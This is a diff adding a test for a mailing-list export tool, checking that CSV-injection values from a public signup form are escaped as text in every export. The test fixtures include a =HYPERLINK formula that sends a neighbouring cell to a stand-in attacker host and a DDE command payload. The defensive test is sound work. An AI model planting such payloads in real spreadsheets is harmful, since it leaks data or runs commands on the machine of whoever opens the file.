@@ -167,3 +167,30 @@ def test_a_file_that_is_not_utf8_stops_everything(project: Path, tmp_path: Path,
         main(["subscribers", "--root", str(project), str(INPUTS[0]), str(legacy), "--out", str(out)])
     assert f"{legacy}:3: not UTF-8 text" in capsys.readouterr().err
     assert not out.exists()
+
+
+def test_what_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(project: Path, tmp_path: Path) -> None:
+    """The public form takes any name: `=HYPERLINK(…)` in a file the list's keeper opens in Excel would send the next
+    cell to another site (CSV injection). Every export and the refused rows carry it as text; addresses stay as they are."""
+    attack = '=HYPERLINK("https://evil.example/?"&A2,"Відкрити")'
+    form = tmp_path / "form.csv"
+    with form.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([
+            ["email", "name", "language", "event", "time", "consent", "source", "tags"],
+            ["-dash@example.org", attack, "uk", "signup", "2026-11-20 10:00", "yes", "+cmd|' /C calc'!A0", "@team"],
+            ["plus@example.org", "Ольга", "en", "signup", "2026-11-20 11:00", "yes", "-2+3", ""],
+            [attack, "Хтось", "uk", "signup", "2026-11-20 12:00", "yes", "", ""],
+        ])
+    out = tmp_path / "out"
+    assert main(["subscribers", "--root", str(project), str(form), "--out", str(out)]) == 0
+    cells = {path.name: [cell for row in rows(path, ";" if path.name.startswith("brevo") else ",") for cell in row]
+             for path in out.glob("*.csv")}
+    assert "'" + attack in cells["subscribers.csv"] and "'" + attack in cells["listmonk-uk-unconfirmed.csv"]
+    assert "'" + attack in cells["mailchimp-subscribed.csv"] and "'" + attack in cells["brevo-uk.csv"]
+    assert "'" + attack in cells["rejects.csv"], "a refused address is a cell too"
+    assert "'+cmd|' /C calc'!A0" in cells["subscribers.csv"] and "'@team" in cells["subscribers.csv"]
+    assert "'-2+3" in cells["subscribers.csv"]
+    assert "-dash@example.org" in cells["subscribers.csv"] and "-dash@example.org" in cells["brevo-uk.csv"]
+    for name, values in cells.items():
+        assert not [value for value in values if value.startswith(("=", "+", "@")) or
+                    (value.startswith("-") and value != "-dash@example.org")], name
